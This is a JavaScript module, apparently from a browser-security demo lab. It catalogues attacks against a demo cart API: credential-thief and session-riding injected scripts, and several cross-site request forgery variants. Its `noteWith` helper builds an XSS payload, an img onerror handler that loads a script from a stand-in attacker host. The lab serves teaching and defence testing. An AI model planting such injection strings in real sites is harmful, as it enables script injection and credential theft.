// The attacks that the page offers. Those with a `page` run on another site; those with a `script` run in this one.

import { API, EVIL, SIBLING } from './site.js'

export const ATTACKS = [
  { id: 'passive', name: 'Passive thief', script: 'thief-passive.js', asks: 'Did the script get the credential?',
    does: 'An injected script looks through localStorage, sessionStorage, document.cookie and every object it can reach.' },
  { id: 'active', name: 'Active thief', script: 'thief-active.js', asks: 'Did the script get the credential?',
    does: 'Like the passive one, in the usual places. It also wraps fetch and XMLHttpRequest, requests a silent refresh, and waits for the page’s next request.' },
  { id: 'rider', name: 'Ride the session', script: 'rider.js', asks: 'Did it act as the user?',
    does: 'An injected script reads nothing: it sends a request with credentials and presses this page’s own buttons.' },
  { id: 'post', name: 'Forged POST', page: 'forged-post.html', site: EVIL, target: '/form/items', asks: 'Was the cart changed?',
    does: 'A page of another site posts a plain form to the API.' },
  { id: 'json', name: 'Forged JSON', page: 'forged-json.html', site: EVIL, target: '/cart/items', asks: 'Was the cart changed?',
    does: 'A page of another site posts JSON as text/plain, in a form, to the call that takes JSON only.' },
  { id: 'loose', name: 'Forged JSON, loose', page: 'forged-json.html', site: EVIL, target: '/loose/items', asks: 'Was the cart changed?',
    does: 'The same, to a call that reads JSON whatever the content type says.' },
  { id: 'get', name: 'Forged GET', page: 'forged-get.html', site: EVIL, target: '/buy', asks: 'Was the cart changed?',
    does: 'A link of another site leads to a GET that changes the cart, which no GET should do.' },
  { id: 'fetch', name: 'Forged fetch', page: 'forged-fetch.html', site: EVIL, target: '/form/items', asks: 'Was the cart changed?',
    does: 'A page of another site calls fetch with credentials, and tries to read the answer.' },
  { id: 'img', name: 'Forged image', page: 'forged-img.html', site: EVIL, target: '/buy', asks: 'Was the cart changed?',
    does: 'A page of another site has an image whose address is the GET that changes the cart.' },
  { id: 'frame', name: 'Forged frame', page: 'frame.html', site: EVIL, target: '/buy', asks: 'Was the cart changed?',
    does: 'A page of another site loads the same address in a frame.' },
  { id: 'sibling', name: 'Sibling’s POST', page: 'forged-post.html', site: SIBLING, target: '/form/items', asks: 'Was the cart changed?',
    does: 'A subdomain of the same site, which the attacker controls, posts the plain form.' },
  { id: 'guarded', name: 'Sibling’s POST, guarded', page: 'forged-post.html', site: SIBLING, target: '/guarded/items',
    asks: 'Was the cart changed?', does: 'The same, to the call that checks Origin and needs a CSRF token.' },
]

/** The address of an attack page. With `wait` the page first says what it will do, and has a button. */
export function addressOf(attack, item) {
  const asked = new URLSearchParams({ target: API + attack.target, item, wait: '1' })
  return `${attack.site}/${attack.page}?${asked}`
}

/** A note that runs a script by an event handler, because a script element inserted by innerHTML would not run. */
export const noteWith = (script) =>
  `A note with a picture in it. <img alt="" src="data:," onerror="const s = document.createElement('script'); ` +
  `s.src = '${EVIL}/${script}'; document.head.append(s); this.remove()">`

export const attackOf = (id) => ATTACKS.find((attack) => attack.id === id)
